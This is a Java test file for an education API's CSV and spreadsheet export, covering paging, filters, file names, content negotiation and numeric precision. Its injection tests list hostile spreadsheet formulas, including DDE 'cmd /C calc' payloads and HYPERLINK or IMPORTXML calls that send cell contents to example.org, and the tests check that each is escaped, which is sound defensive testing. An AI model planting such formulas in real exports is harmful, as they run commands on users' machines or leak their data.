package colophon.views.reading.table;

import static colophon.views.Given.enrolled;
import static colophon.views.Given.institution;
import static colophon.views.Given.offering;
import static colophon.views.Given.payment;
import static colophon.views.Given.program;
import static colophon.views.Given.student;
import static colophon.views.Given.usd;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import colophon.events.payment.Payer;
import colophon.views.QuerySide;
import colophon.views.School;
import colophon.views.reading.table.TableColumns.Column;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;

import java.util.List;

@Tag("io")
class TableTest {

    private static final String XLSX =
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

    private final QuerySide world = QuerySide.empty();

    @Test
    void a_list_is_a_table_whose_header_names_its_fields() throws Exception {
        School.opens(world);
        var table = csv("/offerings?institutionId=rbs");
        assertThat(table.getFirst())
                .startsWith("id", "courseId", "courseTitle", "programId", "institutionId")
                .containsSequence("seatsOpen", "tuition", "tuitionCurrency", "delivery");
        assertThat(table).hasSize(4);
        assertThat(table.get(1)).contains("o-1", "2026-05-11", "1395.00", "USD", "in-person");
    }

    @Test
    void a_table_has_all_pages_unless_a_limit_is_given() throws Exception {
        for (int i = 0; i < 450; i++) world.commit(institution("i-" + (1000 + i)));
        assertThat(csv("/institutions")).hasSize(451);
        assertThat(csv("/institutions?limit=7")).hasSize(8);
        assertThat(csv("/institutions").stream().map(List::getFirst).skip(1))
                .doesNotHaveDuplicates()
                .isSorted();
        world.ask("/institutions").andExpect(jsonPath("$.items.length()").value(50));
    }

    @Test
    void a_table_keeps_to_the_filters_of_its_list() throws Exception {
        School.opens(world);
        assertThat(csv("/offerings?courseId=c-2")).hasSize(2);
        asked("/offerings?colour=red", "text/csv").andExpect(status().isBadRequest());
    }

    @Test
    void a_long_table_is_streamed_and_a_short_one_has_a_tag() throws Exception {
        for (int i = 0; i < 201; i++) world.commit(institution("i-" + (1000 + i)));
        asked("/institutions", "text/csv").andExpect(header().doesNotExist("ETag"));
        asked("/institutions?limit=5", "text/csv").andExpect(header().exists("ETag"));
    }

    @ParameterizedTest
    @CsvSource({
        "/offerings, text/csv, offerings.csv",
        "/offerings/o-1/roster, text/csv, offerings-o-1-roster.csv",
        "/students/s-1/statement, text/csv, students-s-1-statement.csv",
        "/offerings, " + XLSX + ", offerings.xlsx"
    })
    void a_table_comes_as_a_file_with_a_name(String path, String accept, String name)
            throws Exception {
        ada();
        asked(path, accept)
                .andExpect(status().isOk())
                .andExpect(content().contentTypeCompatibleWith(accept))
                .andExpect(header().exists("Event-Position"))
                .andExpect(
                        header().string(
                                        "Content-Disposition",
                                        "attachment; filename=\"" + name + "\""));
    }

    @Test
    void a_problem_is_answered_as_a_problem_even_if_a_table_is_wanted() throws Exception {
        for (var accept : List.of("text/csv", XLSX))
            asked("/offerings/none/roster", accept)
                    .andExpect(status().isNotFound())
                    .andExpect(content().contentTypeCompatibleWith("application/problem+json"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://example.org\",\"me\")",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1+1",
                "-2",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20A1",
                "=\"a\",\"b\"",
            })
    void no_cell_of_a_csv_is_a_formula(String name) throws Exception {
        world.commit(student("s-1", "Ada", name));
        assertThat(csv("/students").get(1)).contains("'" + name).doesNotContain(name);
        world.ask("/students").andExpect(jsonPath("$.items[0].familyName").value(name));
    }

    @Test
    void no_cell_begins_as_a_formula_does_whatever_follows() throws Exception {
        var rest =
                List.of(
                        "1+1",
                        "SUM(A1:A9)",
                        "cmd|' /C calc'!A0",
                        "HYPERLINK(\"http://example.org?\"&A1,\"me\")",
                        "IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
                        "WEBSERVICE(\"http://example.org\")",
                        "DDE(\"cmd\";\"/C calc\";\"x\")",
                        "\"a\",\"b\"",
                        "-2+3+cmd|' /C calc'!D2",
                        " 1");
        var beginnings = "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20";
        int count = 0;
        for (int n = 0; n < beginnings.length(); n++)
            for (var formula : rest)
                world.commit(
                        student("s-" + count++, "Ada", beginnings.substring(n, n + 1) + formula));
        assertThat(count).isGreaterThanOrEqualTo(100);
        var rows = csv("/students");
        assertThat(rows).hasSize(count + 1);
        int name = rows.getFirst().indexOf("familyName");
        assertThat(rows.stream().skip(1).map(row -> row.get(name)))
                .allMatch(cell -> cell.startsWith("'"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"O'Neill", "a=b", "Müller-Lüdenscheidt", "李", "a,\"b\"", "1-2"})
    void what_is_no_formula_stays_as_it_is(String name) throws Exception {
        world.commit(student("s-1", "Ada", name));
        assertThat(csv("/students").get(1)).contains(name);
    }

    @Test
    void an_amount_below_zero_is_still_a_number() throws Exception {
        ada();
        world.commit(payment("p-1", "s-1", "rbs", usd("1400.00"), Payer.SELF, "2026-05-02"));
        var rows = csv("/students/s-1/statement");
        assertThat(rows.getLast()).contains("closing", "-5.00");
    }

    @Test
    void a_workbook_has_amounts_as_exact_numbers_days_as_days_and_text_as_text() throws Exception {
        world.commit(institution("rbs"));
        world.commit(program("p", "rbs"));
        // 2^53 + 1 cents: the first amount that a double cannot hold
        world.commit(
                offering("o-1", "c-1", "p", "rbs", "2026-07-01", usd("90071992547409.93")),
                offering("o-2", "=1+1", "p", "rbs", "2026-07-02", usd("1395.00")));
        var file = xlsx("/offerings");
        var rows = XlsxSheet.read(file);
        var header = rows.getFirst().stream().map(XlsxSheet.Cell::text).toList();
        int tuition = header.indexOf("tuition");
        int starts = header.indexOf("startsOn");
        int course = header.indexOf("courseId");
        assertThat(rows).hasSize(3);
        assertThat(rows.get(1).get(tuition)).isEqualTo(number("0.00", "90071992547409.93"));
        assertThat(rows.get(2).get(tuition)).isEqualTo(number("0.00", "1395.00"));
        assertThat(rows.get(1).get(tuition + 1).text()).isEqualTo("USD");
        // 1899-12-30 is day 0 of a workbook
        assertThat(rows.get(1).get(starts).format()).isEqualTo("yyyy-mm-dd");
        assertThat(rows.get(1).get(starts).text()).startsWith("46204");
        assertThat(rows.get(2).get(course)).isEqualTo(new XlsxSheet.Cell("inlineStr", "", "=1+1"));
        assertThat(XlsxSheet.markup(file)).doesNotContain("<f>", "<f ");
    }

    @Test
    void a_workbook_has_all_pages_too() throws Exception {
        for (int i = 0; i < 1203; i++) world.commit(institution("i-" + (1000 + i)));
        assertThat(XlsxSheet.read(xlsx("/institutions"))).hasSize(1204);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            nullValues = "JSON",
            value = {
                "text/csv | CSV",
                "text/csv;charset=UTF-8 | CSV",
                "text/* | CSV",
                "TEXT/CSV | CSV",
                XLSX + " | XLSX",
                "application/json;q=0.5, text/csv | CSV",
                "text/csv;q=0.4, application/json;q=0.5 | JSON",
                "text/csv;q=0.4, " + XLSX + " | XLSX",
                "*/* | JSON",
                "application/* | JSON",
                "text/html,application/xhtml+xml,*/*;q=0.8 | JSON",
                "text/csv;q=0 | JSON",
                "application/pdf | JSON",
                "nonsense | JSON"
            })
    void a_table_is_given_to_a_client_that_prefers_one(String accept, String preferred) {
        var form = TableFormat.preferredBy(accept);
        assertThat(form == null ? null : form.name()).isEqualTo(preferred);
    }

    @Test
    void every_list_of_the_api_can_be_a_table() {
        var lists =
                world
                        .bean("requestMappingHandlerMapping", RequestMappingHandlerMapping.class)
                        .getHandlerMethods()
                        .values()
                        .stream()
                        .filter(ListInvocation::isList)
                        .toList();
        assertThat(lists).hasSizeGreaterThan(6);
        for (var list : lists)
            assertThat(TableColumns.of(ListInvocation.row(list)))
                    .as(list.getShortLogMessage())
                    .extracting(Column::name)
                    .isNotEmpty()
                    .doesNotHaveDuplicates();
    }

    private void ada() {
        School.opens(world);
        world.commit(student("s-1", "Ada", "Lovelace"));
        world.commit(enrolled("e-1", "s-1", School.BINDING));
    }

    private static XlsxSheet.Cell number(String format, String text) {
        return new XlsxSheet.Cell("n", format, text);
    }

    private ResultActions asked(String path, String accept) throws Exception {
        return world.ask(get("/api/v1" + path).accept(accept));
    }

    private byte[] xlsx(String path) throws Exception {
        return asked(path, XLSX)
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsByteArray();
    }

    private List<List<String>> csv(String path) throws Exception {
        var text =
                asked(path, "text/csv")
                        .andExpect(status().isOk())
                        .andReturn()
                        .getResponse()
                        .getContentAsString();
        try (var reader = CsvReader.builder().ofCsvRecord(text)) {
            return reader.stream().map(CsvRecord::getFields).toList();
        }
    }
}
